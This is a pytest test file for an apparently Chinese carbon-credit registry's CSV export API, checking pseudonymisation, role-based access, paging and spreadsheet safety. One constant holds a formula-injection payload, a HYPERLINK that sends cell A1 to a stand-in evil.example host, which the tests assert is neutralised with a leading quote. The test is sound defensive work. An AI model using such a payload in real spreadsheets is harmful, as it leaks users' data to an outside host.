"""CSV exports through the API: lots (public), orders (the registry's all, an organisation's own),
retirements and certificates (public, pseudonymised, spreadsheet-safe), and an organisation's statement
(its own keys or the registry; another organisation's key gets a 404)."""

from __future__ import annotations

import pytest
from api_support import API, assert_problem, make_party
from sales_api_support import add_shared_lots, buy_enterprise, buy_individual, read_csv

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"领取")'


@pytest.fixture
def traded(app, client, admin, enterprise, other_enterprise):
    """A private individual's retirement, a public one whose name is a formula, an enterprise's paid
    order (a transfer) and another enterprise's unpaid order."""
    add_shared_lots(app)
    private = buy_individual(client, admin, 12, zone="川西南")
    public = buy_individual(
        client, admin, 3, zone="川西南", beneficiary={"name": FORMULA_NAME, "public": True}, details="+1 生日"
    )
    bought = buy_enterprise(enterprise, admin, 2_000, zone="川中")
    unpaid = buy_enterprise(other_enterprise, None, 5, zone="川中")
    return {"private": private, "public": public, "enterprise": bought, "other": unpaid}


def test_lots_are_exported_publicly_with_their_sourcing_and_stock(traded, client):
    response = client.get(f"{API}/exports/lots.csv")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="tanhui-lots-')
    rows = read_csv(response)
    assert [row["lot_id"] for row in rows] == ["L-A", "L-B"]
    assert rows[0]["county_name"] == "盐源县"
    assert rows[0]["poverty_county"] == "true"
    assert rows[0]["farmer_share_percent"] == "30.00"
    assert rows[0]["available_kg"] == str(10_000 - 15)
    assert rows[1]["available_kg"] == str(10_000 - 2_000 - 5)  # the unpaid order still holds its 5 kg


def test_retirements_are_public_pseudonymised_and_formula_safe(traded, client):
    rows = read_csv(client.get(f"{API}/exports/retirements.csv"))
    assert len(rows) == 2  # the enterprise's order was a transfer, not a retirement
    private, public = rows
    assert private["beneficiary"] == "匿名"
    assert private["certificate_id"] == ""
    assert private["organisation"] == ""
    assert (private["kind"], private["quantity_kg"], private["counties"]) == ("individual", "12", "513423")
    assert public["beneficiary"] == "'" + FORMULA_NAME  # shown as text, never evaluated
    assert public["details"] == "'+1 生日"
    assert public["certificate_id"] == traded["public"]["certificate_id"]
    text = client.get(f"{API}/exports/retirements.csv").get_data(as_text=True)
    assert "王小明" not in text
    assert "小王" not in text
    assert traded["private"]["certificate_id"] not in text
    assert traded["private"]["id"] not in text


def test_certificates_are_public_without_a_private_holders_name_or_id(traded, client):
    rows = read_csv(client.get(f"{API}/exports/certificates.csv"))
    assert [row["beneficiary"] for row in rows] == ["匿名", "'" + FORMULA_NAME]
    assert rows[0]["certificate_id"] == ""
    assert rows[1]["certificate_id"] == traded["public"]["certificate_id"]
    assert rows[1]["purpose_zh"] == "个人碳足迹抵消"
    assert rows[0]["poverty_area_kg"] == "12"
    assert traded["private"]["certificate_id"] not in client.get(f"{API}/exports/certificates.csv").get_data(
        as_text=True
    )


def test_the_registry_exports_every_order(traded, admin):
    rows = read_csv(admin.get("/exports/orders.csv"))
    assert {row["order_id"] for row in rows} == {order["id"] for order in traded.values()}
    enterprise = next(row for row in rows if row["order_id"] == traded["enterprise"]["id"])
    assert (enterprise["state"], enterprise["paid_fen"], enterprise["lots"]) == (
        "fulfilled",
        "160000",
        "L-B: 2000 kg",
    )
    public = next(row for row in rows if row["order_id"] == traded["public"]["id"])
    assert public["beneficiary_name"] == "'" + FORMULA_NAME


def test_an_organisation_exports_only_its_own_orders(traded, enterprise, other_enterprise):
    own = read_csv(enterprise.get("/exports/orders.csv"))
    assert [row["order_id"] for row in own] == [traded["enterprise"]["id"]]
    other = read_csv(other_enterprise.get("/exports/orders.csv"))
    assert [row["order_id"] for row in other] == [traded["other"]["id"]]
    assert traded["enterprise"]["id"] not in other_enterprise.get("/exports/orders.csv").get_data(
        as_text=True
    )


def test_orders_are_not_exported_to_other_roles_or_without_a_key(traded, client, verifier):
    assert_problem(verifier.get("/exports/orders.csv"), 403, "role")
    assert_problem(client.get(f"{API}/exports/orders.csv"), 401, "Authorization")


def test_a_statement_is_exported_to_its_organisation_and_the_registry_only(
    traded, admin, enterprise, other_enterprise
):
    path = f"/organisations/{enterprise.organisation_id}/statement.csv"
    rows = read_csv(enterprise.get(path))
    holdings = [row for row in rows if row["section"] == "holding"]
    history = [row for row in rows if row["section"] == "history"]
    assert sum(int(row["quantity_kg"]) for row in holdings) == 2_000
    assert [(row["movement"], row["quantity_kg"], row["order_id"]) for row in history] == [
        ("transfer_in", "2000", traded["enterprise"]["id"])
    ]
    assert read_csv(admin.get(path)) == rows
    assert_problem(other_enterprise.get(path), 404, "organisation_id")
    assert_problem(enterprise.get(f"{path}?from=2026-12-02&to=2026-12-01"), 400, "until")


def test_the_exports_are_in_the_openapi_document(client):
    paths = client.get(f"{API}/openapi.json").get_json()["paths"]
    for name in ("lots", "orders", "retirements", "certificates"):
        assert "get" in paths[f"/api/v1/exports/{name}.csv"]
    assert "get" in paths["/api/v1/organisations/{organisation_id}/statement.csv"]


def test_events_and_enterprises_are_public_even_when_their_beneficiary_is_not(
    app, client, traded, admin, enterprise
):
    organiser = make_party(app, client, "成都国际会展有限公司", "organiser", "event_organiser")
    body = {
        "kind": "event",
        "quantity_kg": 20,
        "beneficiary": {"name": "年会嘉宾", "public": False},
        "details": "2026 成都碳中和年会",
        "sourcing": {"zone": "川西南"},
    }
    order = organiser.post("/orders", body).get_json()
    paid = admin.post(
        f"/orders/{order['id']}/invoice-payment", {"amount_fen": order["price_fen"], "reference": "EV-1"}
    )
    assert paid.get_json()["state"] == "fulfilled"
    retired = enterprise.post(
        f"/organisations/{enterprise.organisation_id}/retirements",
        {"compliance_period": "2025 年度履约", "quantity_kg": 500},
        headers={"Idempotency-Key": "retire-1"},
    )
    assert retired.status_code == 201, retired.get_json()

    rows = read_csv(client.get(f"{API}/exports/retirements.csv"))
    event = next(row for row in rows if row["kind"] == "event")
    assert (event["organisation"], event["beneficiary"], event["certificate_id"]) == (
        "成都国际会展有限公司",
        "匿名",
        "",
    )
    assert event["details"] == "2026 成都碳中和年会"
    compliance = next(row for row in rows if row["kind"] == "compliance")
    assert compliance["organisation"] == compliance["beneficiary"] == "成都绿色制造有限公司"
    assert compliance["certificate_id"] == retired.get_json()["certificate_id"]
    assert (compliance["quantity_kg"], compliance["counties"], compliance["poverty_area_kg"]) == (
        "500",
        "510104",
        "0",
    )
    assert "年会嘉宾" not in client.get(f"{API}/exports/certificates.csv").get_data(as_text=True)


@pytest.mark.parametrize("export", ["retirements", "certificates"])
def test_a_large_export_is_paged_by_ledger_seq_with_a_link_to_the_next_page(app, client, admin, export):
    add_shared_lots(app)
    for quantity_kg in (1, 2, 3, 4, 5):
        buy_individual(client, admin, quantity_kg, zone="川西南")
    whole = read_csv(client.get(f"{API}/exports/{export}.csv"))
    assert len(whole) == 5

    pages, path = [], f"{API}/exports/{export}.csv?limit=2"
    while path:
        response = client.get(path)
        assert response.status_code == 200
        pages.append(read_csv(response))
        link = response.headers.get("Link")
        path = link.split(">")[0].removeprefix("<") if link else None
        if link:
            assert link.endswith('rel="next"')

    assert [len(page) for page in pages] == [2, 2, 1]
    assert [row for page in pages for row in page] == whole


@pytest.mark.parametrize(
    "query", ["after_seq=-2", "after_seq=x", "limit=0", "limit=100001", "after_seq=1&after_seq=2"]
)
def test_a_bad_page_request_is_refused_naming_the_parameter(client, query):
    response = client.get(f"{API}/exports/retirements.csv?{query}")

    problem = assert_problem(response, 400)
    assert problem["field"] in ("after_seq", "limit")


def pages_of(party, path: str) -> list[list[dict[str, str]]]:
    """Every page of a paged export, following the ``Link: rel="next"`` headers from ``path``."""
    pages: list[list[dict[str, str]]] = []
    next_path: str | None = path
    while next_path:
        response = party.get(next_path.removeprefix(API))
        assert response.status_code == 200, response.get_data(as_text=True)
        pages.append(read_csv(response))
        link = response.headers.get("Link")
        if link:
            assert link.endswith('rel="next"')
        next_path = link.split(">")[0].removeprefix("<") if link else None
    return pages


def test_the_orders_export_is_paged_by_placing_time_with_a_link_to_the_next_page(traded, admin, enterprise):
    buy_enterprise(enterprise, admin, 10, zone="川中")
    whole = read_csv(admin.get("/exports/orders.csv"))
    assert len(whole) == 5
    pages = pages_of(admin, f"{API}/exports/orders.csv?limit=2")
    assert [len(page) for page in pages] == [2, 2, 1]
    assert [row for page in pages for row in page] == whole
    # An organisation pages through its own orders only.
    own = pages_of(enterprise, f"{API}/exports/orders.csv?limit=1")
    assert [row["order_id"] for page in own for row in page] == [
        row["order_id"] for row in read_csv(enterprise.get("/exports/orders.csv"))
    ]
    assert [len(page) for page in own] == [1, 1]


@pytest.mark.parametrize("query", ["after=", "after=nope", "limit=0", "limit=100001", "page=2"])
def test_a_bad_orders_page_request_is_refused_naming_the_parameter(traded, admin, query):
    problem = assert_problem(admin.get(f"/exports/orders.csv?{query}"), 400)
    assert problem["field"] in ("after", "limit", "page")


def test_an_organisation_cannot_page_after_another_organisations_order(traded, enterprise):
    response = enterprise.get(f"/exports/orders.csv?after={traded['other']['id']}")
    assert (
        assert_problem(response, 400, "after")["detail"]
        == f"after: no order {traded['other']['id']} to continue after"
    )
